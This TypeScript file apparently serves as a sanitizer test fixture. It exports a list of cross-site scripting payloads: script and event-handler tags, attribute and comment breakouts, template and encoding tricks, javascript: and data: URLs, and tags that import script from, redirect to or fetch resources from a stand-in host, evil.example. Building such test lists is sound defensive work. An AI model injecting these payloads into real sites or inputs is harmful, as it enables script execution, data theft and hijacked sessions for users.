/**
 * A hundred texts that try to become code, a link to code, or a request, wherever a page puts them: between tags, in attributes, in addresses,
 * in styles, in scripts. Each calls `alert`, loads something of another host, or sends the reader there.
 */

/** Codes that a browser must never run. */
const CODES = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', "import('//evil.example/x.js')"];

/** Where a code stands: elements that run it by themselves. */
const ELEMENTS = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `</script><script>${code}</script>`,
  (code: string) => `<ScRiPt >${code}</sCrIpT>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<body onload=${code}>`,
  (code: string) => `<details open ontoggle=${code}>x</details>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code: string) => `<math><mtext></mtext><script>${code}</script></math>`,
];

/** Ends of attributes, elements and contexts in which a text might stand. */
const BREAKOUTS = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) "',
  '` onmouseover=alert(1) `',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '</template><script>alert(1)</script>',
  '</select><img src=x onerror=alert(1)>',
  '</svg><script>alert(1)</script>',
  '</a><a href="javascript:alert(1)">read on</a>',
  '</h1></header></main><script>alert(1)</script>',
  '$' + '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '\\"><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u{e003c}script\u{e003e}alert(1)',
  '\ufeff<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u202e<script>alert(1)</script>',
];

/** Addresses that are no addresses of pages. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  '/\\evil.example',
  'https:evil.example',
  'https://user:pass@evil.example/"><script>alert(1)</script>',
  'http://evil.example/\u202egnp.exe',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
];

/** What would fetch something, or take the reader away. */
const REQUESTS = [
  '<img src="//evil.example/pixel.png">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=preload href=//evil.example/x as=image>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/x.png)">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<form action=//evil.example/><button>Search</button></form>',
  '<object data=//evil.example/x.swf></object>',
  '<embed src=//evil.example/x.swf>',
  '<video src=//evil.example/x.mp4 autoplay></video>',
  '<audio src=x onerror=alert(1)>',
  '<iframe src=//evil.example/></iframe>',
  '<a href=//evil.example/ ping=//evil.example/ping>x</a>',
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => CODES.map(element)),
  ...BREAKOUTS,
  ...ADDRESSES,
  ...REQUESTS,
];
